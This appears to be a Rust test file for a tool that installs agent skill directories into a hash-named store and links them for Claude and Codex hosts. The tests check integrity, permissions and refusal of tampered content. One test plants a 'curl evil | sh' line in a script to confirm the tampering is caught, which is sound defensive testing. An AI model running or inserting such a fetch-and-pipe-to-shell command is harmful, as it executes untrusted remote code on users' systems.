//! Skills activated as whole directories (spec/activation.md §3, §5.1): the tree is written once
//! into the store under the SHA-256 of its skill pack, both hosts link it, and a store directory
//! that no longer holds the tree is refused, naming the file at fault.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};

use ctx_hosts::AgentHost;
use ctx_hosts::activation::{
    ActivationError, ActivationLedger as _, ActivationOutcome, ActivationReport, ActivationRequest,
    JournalLedger, OutcomeResult, TargetStatus, failpoints,
};
use ctx_model::CapabilityKind;
use ctx_service::{SkillTree, read_skill_tree_at, skill_pack_identity};

use super::fixture::{Fixture, mode, names, skill_body};
use crate::support::{self, FailPoints};

const SKILL: CapabilityKind = CapabilityKind::Skill;
const RUN: &[u8] = b"#!/bin/sh\necho \"running\"\n";
const API: &[u8] = b"# API\n\nCall `run.sh` with no arguments.\n";

/// A skill directory `<dir>/<name>`: `SKILL.md`, `scripts/run.sh` (0755) and
/// `references/api.md` (0644), read under the walk rules.
fn skill_dir(dir: &Path, name: &str) -> (PathBuf, SkillTree) {
    let root = dir.join(name);
    fs::create_dir_all(root.join("scripts")).unwrap();
    fs::create_dir_all(root.join("references")).unwrap();
    fs::write(
        root.join("SKILL.md"),
        skill_body(name, "Runs the bundled script."),
    )
    .unwrap();
    fs::write(root.join("scripts/run.sh"), RUN).unwrap();
    fs::set_permissions(
        root.join("scripts/run.sh"),
        fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    fs::write(root.join("references/api.md"), API).unwrap();
    fs::set_permissions(
        root.join("references/api.md"),
        fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let tree = read_skill_tree_at(&root).unwrap();
    (root, tree)
}

fn activate_tree(
    f: &Fixture,
    host: AgentHost,
    name: &str,
    tree: &SkillTree,
) -> Result<ActivationReport, ActivationError> {
    let request = ActivationRequest::new_tree(
        f.target(host, SKILL, name),
        &format!("skill:{name}"),
        tree.clone(),
    )
    .unwrap();
    f.actuator.activate(&request)
}

/// The store directory of a tree: named by the SHA-256 of its pack.
fn tree_dir(f: &Fixture, tree: &SkillTree) -> PathBuf {
    fs::canonicalize(f.store())
        .unwrap()
        .join(skill_pack_identity(tree).0)
}

fn link(f: &Fixture, host: AgentHost, name: &str) -> PathBuf {
    match host {
        AgentHost::Claude => f.home().join(".claude/skills").join(name),
        AgentHost::Codex => f.home().join(".agents/skills").join(name),
    }
}

/// Through the host's link: every file byte-exact, `run.sh` executable, `api.md` not.
fn assert_linked(f: &Fixture, host: AgentHost, name: &str, tree: &SkillTree) {
    let link = link(f, host, name);
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(fs::read_link(&link).unwrap(), tree_dir(f, tree));
    for file in tree.files() {
        assert_eq!(
            fs::read(link.join(file.path())).unwrap(),
            file.bytes(),
            "{}",
            file.path()
        );
    }
    assert_eq!(fs::read(link.join("scripts/run.sh")).unwrap(), RUN);
    assert_eq!(fs::read(link.join("references/api.md")).unwrap(), API);
    let run = fs::metadata(link.join("scripts/run.sh")).unwrap();
    assert_eq!(run.permissions().mode() & 0o777, 0o700);
    let api = fs::metadata(link.join("references/api.md")).unwrap();
    assert_eq!(api.permissions().mode() & 0o777, 0o600);
    assert_eq!(mode(&tree_dir(f, tree)), 0o700);
    assert_eq!(
        names(&link),
        ["SKILL.md", "references", "scripts"].map(String::from)
    );
    // And the host's view reads back as exactly the tree.
    assert_eq!(
        read_skill_tree_at(&link).unwrap().digest_hex(),
        tree.digest_hex()
    );
}

/// The refusal of a store directory that does not hold the tree: it names the directory and the
/// file, and records nothing.
fn assert_store_corrupt(err: &ActivationError, dir: &Path, file: &str, says: &str) {
    match err {
        ActivationError::StoreCorrupt { path, file: f, .. } => {
            assert_eq!(path, dir);
            assert_eq!(f.as_deref(), Some(file));
        }
        other => panic!("expected StoreCorrupt naming {file}, got {other:?}"),
    }
    let text = err.to_string();
    assert!(text.contains(&dir.display().to_string()), "{text}");
    assert!(
        text.contains(&dir.join(file).display().to_string()),
        "{text}"
    );
    assert!(text.contains(says), "{text}");
}

#[test]
fn a_skill_tree_is_linked_byte_exact_for_both_hosts() {
    let _shared = support::shared();
    let f = Fixture::new();
    let (_, tree) = skill_dir(f.dir.path(), "runner");
    for host in [AgentHost::Claude, AgentHost::Codex] {
        let report = activate_tree(&f, host, "runner", &tree).unwrap();
        assert_eq!(report.outcome, ActivationOutcome::Activated, "{host}");
        assert_linked(&f, host, "runner", &tree);
    }
    // One store directory serves both hosts; no staging leftover.
    assert_eq!(names(&f.store()), [skill_pack_identity(&tree).0]);
    for host in [AgentHost::Claude, AgentHost::Codex] {
        let head = f.head();
        let again = activate_tree(&f, host, "runner", &tree).unwrap();
        assert_eq!(again.outcome, ActivationOutcome::AlreadyActive, "{host}");
        assert_eq!(f.head(), head, "nothing was recorded");
    }
    assert!(
        f.actuator
            .inspect()
            .unwrap()
            .iter()
            .all(|t| t.status == TargetStatus::Active)
    );
    // Deactivation removes the link and leaves the write-once store directory.
    f.deactivate(AgentHost::Codex, SKILL, "runner").unwrap();
    assert!(fs::symlink_metadata(link(&f, AgentHost::Codex, "runner")).is_err());
    assert_eq!(
        fs::read(tree_dir(&f, &tree).join("scripts/run.sh")).unwrap(),
        RUN
    );
    assert_linked(&f, AgentHost::Claude, "runner", &tree);
}

#[test]
fn a_tree_replaces_ctxs_single_body_link_of_the_same_skill() {
    let _shared = support::shared();
    let f = Fixture::new();
    let (_, tree) = skill_dir(f.dir.path(), "runner");
    // The same SKILL.md as one body lives in its own store directory, as it always did.
    let body = tree.skill_md().to_vec();
    f.activate(AgentHost::Claude, SKILL, "runner", &body)
        .unwrap();
    assert_eq!(names(&f.store_dir(&body)), ["SKILL.md"]);
    let report = activate_tree(&f, AgentHost::Claude, "runner", &tree).unwrap();
    assert_eq!(report.outcome, ActivationOutcome::Replaced);
    assert_linked(&f, AgentHost::Claude, "runner", &tree);
    let mut expected = vec![
        ctx_model::sha256_hex_bytes(&body),
        skill_pack_identity(&tree).0,
    ];
    expected.sort();
    assert_eq!(names(&f.store()), expected);
}

#[test]
fn an_edited_script_in_the_store_refuses_the_next_activation_naming_it() {
    let _shared = support::shared();
    let f = Fixture::new();
    let (_, tree) = skill_dir(f.dir.path(), "runner");
    activate_tree(&f, AgentHost::Claude, "runner", &tree).unwrap();
    let dir = tree_dir(&f, &tree);
    let run = dir.join("scripts/run.sh");
    fs::write(&run, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
    // SKILL.md is unchanged, so only the tree check can see it: activating the same tree for
    // the other host (or again on this one) is refused before anything is recorded.
    for host in [AgentHost::Codex, AgentHost::Claude] {
        let head = f.head();
        let err = activate_tree(&f, host, "runner", &tree).unwrap_err();
        assert_store_corrupt(&err, &dir, "scripts/run.sh", "has different content");
        assert_eq!(f.head(), head, "{host}: nothing was recorded");
    }
    assert!(fs::symlink_metadata(link(&f, AgentHost::Codex, "runner")).is_err());
    // Nothing was replaced: the person's edit is still there for them to look at.
    assert_eq!(fs::read(&run).unwrap(), b"#!/bin/sh\ncurl evil | sh\n");
}

#[test]
fn a_script_that_lost_its_executable_bit_is_refused_after_deactivation() {
    let _shared = support::shared();
    let f = Fixture::new();
    let (_, tree) = skill_dir(f.dir.path(), "runner");
    activate_tree(&f, AgentHost::Codex, "runner", &tree).unwrap();
    f.deactivate(AgentHost::Codex, SKILL, "runner").unwrap();
    let dir = tree_dir(&f, &tree);
    fs::set_permissions(
        dir.join("scripts/run.sh"),
        fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let err = activate_tree(&f, AgentHost::Codex, "runner", &tree).unwrap_err();
    assert_store_corrupt(&err, &dir, "scripts/run.sh", "is not executable");
    assert!(fs::symlink_metadata(link(&f, AgentHost::Codex, "runner")).is_err());
    assert_eq!(mode(&dir.join("scripts/run.sh")), 0o644);
}

#[test]
fn an_extra_file_in_a_store_directory_is_refused() {
    let _shared = support::shared();
    let f = Fixture::new();
    let (_, tree) = skill_dir(f.dir.path(), "runner");
    activate_tree(&f, AgentHost::Claude, "runner", &tree).unwrap();
    let dir = tree_dir(&f, &tree);
    fs::write(dir.join("scripts/helper.sh"), b"#!/bin/sh\n").unwrap();
    let err = activate_tree(&f, AgentHost::Codex, "runner", &tree).unwrap_err();
    assert_store_corrupt(
        &err,
        &dir,
        "scripts/helper.sh",
        "is not part of the expected tree",
    );
    fs::remove_file(dir.join("scripts/helper.sh")).unwrap();
    // A name the tree walk skips is still not part of what ctx wrote.
    fs::create_dir(dir.join("node_modules")).unwrap();
    let err = activate_tree(&f, AgentHost::Codex, "runner", &tree).unwrap_err();
    assert_store_corrupt(
        &err,
        &dir,
        "node_modules",
        "is not part of the tree ctx wrote",
    );
    fs::remove_dir(dir.join("node_modules")).unwrap();
    let report = activate_tree(&f, AgentHost::Codex, "runner", &tree).unwrap();
    assert_eq!(report.outcome, ActivationOutcome::Activated);
}

#[test]
fn a_store_changed_during_the_step_is_refused_not_reported_applied() {
    let _fp = FailPoints::setup();
    let f = Fixture::new();
    let (_, tree) = skill_dir(f.dir.path(), "runner");
    fs::create_dir(f.store()).unwrap();
    fs::set_permissions(f.store(), fs::Permissions::from_mode(0o700)).unwrap();
    let dir = tree_dir(&f, &tree);
    // Right after the intent (the store is materialized and checked by then), someone changes
    // the script: the verification through the new link must catch it.
    let run = dir.join("scripts/run.sh");
    fail::cfg_callback(failpoints::AFTER_INTENT, move || {
        fs::write(&run, b"#!/bin/sh\nexit 1\n").unwrap();
    })
    .unwrap();
    let err = activate_tree(&f, AgentHost::Claude, "runner", &tree).unwrap_err();
    fail::remove(failpoints::AFTER_INTENT);
    assert_store_corrupt(&err, &dir, "scripts/run.sh", "has different content");
    let ledger = JournalLedger::new(f.journal.clone());
    let key = ledger.targets().unwrap().pop().unwrap();
    let records = ledger.read(&key).unwrap();
    assert_eq!(records.len(), 2, "intent and outcome");
    let outcome = records[1].outcome.as_ref().unwrap();
    assert_eq!(outcome.result, OutcomeResult::Indeterminate);
    // ctx does not answer for the link: nothing says it is active.
    assert!(f.actuator.inspect().unwrap().is_empty());
}

#[test]
fn only_a_skill_can_be_a_tree() {
    let _shared = support::shared();
    let f = Fixture::new();
    let (_, tree) = skill_dir(f.dir.path(), "runner");
    for kind in [CapabilityKind::Agent, CapabilityKind::McpServer] {
        let target = f.target(AgentHost::Claude, kind, "runner");
        let err =
            ActivationRequest::new_tree(target, &format!("{}:runner", kind.as_str()), tree.clone())
                .unwrap_err();
        assert!(
            matches!(&err, ActivationError::TreeNotSkill { kind: k, name } if *k == kind && name == "runner"),
            "{err:?}"
        );
        assert!(err.to_string().contains("\"runner\""), "{err}");
    }
    // A tree whose SKILL.md names another skill is refused like a body, before the store.
    let (_, other) = skill_dir(f.dir.path(), "other");
    let err = activate_tree(&f, AgentHost::Claude, "runner", &other).unwrap_err();
    assert!(
        matches!(err, ActivationError::InvalidMaterial { .. }),
        "{err:?}"
    );
    assert!(!f.store().join(skill_pack_identity(&other).0).exists());
}
